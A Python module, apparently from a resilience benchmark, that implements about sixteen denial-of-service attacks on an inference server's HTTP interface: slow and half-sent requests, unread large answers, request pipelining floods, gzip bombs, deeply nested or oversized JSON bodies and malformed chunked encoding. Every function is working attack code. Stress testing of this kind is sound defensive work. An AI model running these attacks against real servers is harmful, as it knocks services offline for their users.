"""Attacks on the HTTP front."""

from __future__ import annotations

import contextlib
import gzip
import json
import socket
from collections.abc import Callable

from bench.attackers.target import Target, burst, drain, hold, pile_up

_MIB = 1 << 20
#: Of an answer.
_LARGE = 16 * _MIB
#: Bytes of each of many answers that nobody reads.
_BURST_ANSWER = 4_000_000


def unread_answers(target: Target) -> None:
    """Asks on four connections for one answer of 16 MiB after the other and reads none; replaces a connection that is closed."""
    with target.region(_LARGE) as region:
        request = _large_answer(region, _LARGE)

        def ask(connection: socket.socket) -> None:
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                target.count("bytes of requests", connection.send(request))

        hold(target, 4, target.http_socket, ask)


def dribbled_bodies(target: Target) -> None:
    """Announces bodies of 60 MiB on thirty-two connections, and sends one byte of each body now and then."""
    head = b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: 100\r\n"
    head += b"Content-Length: %d\r\n\r\n{" % (60 * _MIB)

    def begin() -> socket.socket:
        connection = target.http_socket()
        connection.sendall(head)
        target.count("bodies")
        return connection

    def dribble(connection: socket.socket) -> None:
        connection.sendall(b" ")
        drain(connection)

    hold(target, 32, begin, dribble, pause=0.1)


def half_heads(target: Target) -> None:
    """Opens connections that send half of a request's head."""

    def half_open() -> socket.socket:
        connection = target.http_socket()
        connection.sendall(b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: ")
        return connection

    pile_up(target, half_open, 1000)


def many_inputs(target: Target) -> None:
    """Sends JSON bodies with 900,000 inputs."""
    one = b'{"name":"INPUT0","datatype":"FP32","shape":[1],"data":[1]}'
    _post(target, b'{"inputs":[' + b",".join([one] * 900_000) + b"]}")


def long_strings(target: Target) -> None:
    """Sends JSON bodies with 28 MB of strings as a tensor's elements."""
    tensor = {"name": "INPUT0", "datatype": "BYTES", "shape": [4_000_000], "data": ["abcd"] * 4_000_000}
    _post(target, json.dumps({"inputs": [tensor]}, separators=(",", ":")).encode())


def many_strings(target: Target) -> None:
    """Sends two million strings to a model that takes them, as bytes, and asks for them back."""
    values = (b"\x06\0\0\0" + b"abcdef") * 2_000_000
    tensor = {"name": "INPUT0", "datatype": "BYTES", "shape": [2_000_000]}
    output = {"name": "OUTPUT0", "parameters": {"binary_data": True}}
    inputs = [{**tensor, "parameters": {"binary_data_size": len(values)}}]
    head = json.dumps({"inputs": inputs, "outputs": [output]}).encode()
    _post(target, head + values, "strings", f"Inference-Header-Content-Length: {len(head)}\r\n")


def wide_parameters(target: Target) -> None:
    """Sends JSON bodies with 28 MB of parameters."""
    _post(target, json.dumps({"parameters": {f"p{i}": "x" * 20 for i in range(800_000)}, "inputs": []}).encode())


def deep_arrays(target: Target) -> None:
    """Sends JSON bodies with a million arrays nested in each other."""
    _post(target, b'{"inputs":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}")


def pipelined(target: Target) -> None:
    """Sends thousands of requests on one connection before it reads an answer."""
    burst = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n" * 300
    while target.going_on():
        with target.refusals(), target.http_socket() as connection:
            while target.going_on():
                connection.sendall(burst)
                target.count("requests", 300)
                for _ in range(16):
                    drain(connection)


def huge_chunks(target: Target) -> None:
    """Sends chunks that announce more bytes than any body may have, and chunk extensions without end."""
    head = b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    while target.going_on():
        with target.refusals(), target.http_socket() as connection:
            connection.sendall(head + b"7fffffffffffffff\r\n" + bytes(100))
            target.count("sizes")
            connection.recv(1000)
        with target.refusals(), target.http_socket() as connection:
            connection.sendall(head + b"1;")
            for _ in range(1000):
                connection.sendall(b"x" * 16384)
                drain(connection)
            target.count("extensions")


def gzip_members(target: Target) -> None:
    """Sends bodies of 400,000 empty gzip members, twenty bytes each, for each of which the server needs a new decompressor."""
    body = gzip.compress(b"", mtime=0) * 400_000
    head = b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    while target.going_on():
        with target.refusals(), target.http_socket() as connection:
            connection.settimeout(60)
            connection.sendall(head % len(body))
            for at in range(0, len(body), 65536):
                connection.sendall(body[at : at + 65536])
            target.count("bodies")


def gzip_bombs(target: Target) -> None:
    """Sends six gzip bodies at a time, 60 kB each, that inflate to 60 MiB of blanks."""
    body = gzip.compress(b" " * (60 << 20), mtime=0)
    head = b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    while target.going_on():
        with target.refusals(), contextlib.ExitStack() as stack:
            connections = [stack.enter_context(target.http_socket()) for _ in range(6)]
            for connection in connections:
                connection.settimeout(60)
                connection.sendall(head % len(body) + body)
            for connection in connections:
                connection.recv(1000)
                target.count("bodies")


def gone_pipeliners(target: Target) -> None:
    """Sends two requests and the beginning of a third one, and closes the connection without reading."""
    body = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[4],"data":[1,2,3,4]}]}'
    one = b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    while target.going_on():
        with target.refusals(), target.http_socket() as connection:
            connection.sendall(one * 2 + b"POST /v2/mod")
            target.count("clients")


def unread_bursts(target: Target) -> None:
    """Asks on 200 connections at once for an answer of 4 MB each, and reads none of them."""
    with target.region(_BURST_ANSWER) as region:
        burst(target, target.http_socket, _large_answer(region, _BURST_ANSWER), 200)


def waiting_bodies(target: Target) -> None:
    """Sends bodies of 1 MiB on 64 connections to a model that takes 200 ms for each of them."""
    values = bytes(1 << 20)
    tensor = {"name": "INPUT0", "datatype": "FP32", "shape": [len(values) // 4]}
    head = json.dumps({"inputs": [{**tensor, "parameters": {"binary_data_size": len(values)}}]}).encode()
    request = b"POST /v2/models/slow/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: %d\r\n" % len(head)
    request += b"Content-Length: %d\r\n\r\n" % (len(head) + len(values)) + head + values
    left: dict[socket.socket, int] = {}

    def send(connection: socket.socket) -> None:
        size = left.get(connection) or len(request)
        drain(connection)
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            left[connection] = size - connection.send(request[len(request) - size :])
            if not left[connection]:
                target.count("bodies")

    hold(target, 64, target.http_socket, send)


def _large_answer(region: str, byte_size: int) -> bytes:
    """Builds an HTTP request whose input lies in a region and whose output has to be sent in the answer's body."""
    place = {"shared_memory_region": region, "shared_memory_byte_size": byte_size}
    tensor = {"name": "INPUT0", "datatype": "FP32", "shape": [byte_size // 4], "parameters": place}
    output = {"name": "OUTPUT0", "parameters": {"binary_data": True}}
    body = json.dumps({"inputs": [tensor], "outputs": [output]}).encode()
    return b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def _post(target: Target, body: bytes, model: str = "addsub", more: str = "") -> None:
    """Posts one body to a model again and again, each time on a new connection, and counts the statuses.

    ``more``: header fields besides the usual ones.
    """
    head = f"POST /v2/models/{model}/infer HTTP/1.1\r\nHost: x\r\n{more}Content-Length: {len(body)}\r\n\r\n".encode()
    while target.going_on():
        with target.refusals(), target.http_socket() as connection:
            connection.settimeout(60)
            connection.sendall(head + body)
            status = connection.recv(1000).split(b" ", 2)[1:2]
            target.count(f"status {status[0].decode() if status else 'none'}")


ATTACKS: dict[str, Callable[[Target], None]] = {
    "http-unread-bursts": unread_bursts,
    "http-waiting-bodies": waiting_bodies,
    "http-unread-answers": unread_answers,
    "http-dribbled-bodies": dribbled_bodies,
    "http-half-heads": half_heads,
    #: More connections than the front accepts, without a request.
    "http-idle-connections": lambda target: pile_up(target, target.http_socket, 5000),
    "http-many-inputs": many_inputs,
    "http-long-strings": long_strings,
    "http-many-strings": many_strings,
    "http-wide-parameters": wide_parameters,
    "http-deep-arrays": deep_arrays,
    "http-pipelined": pipelined,
    "http-huge-chunks": huge_chunks,
    "http-gzip-members": gzip_members,
    "http-gzip-bombs": gzip_bombs,
    "http-gone-pipeliners": gone_pipeliners,
}
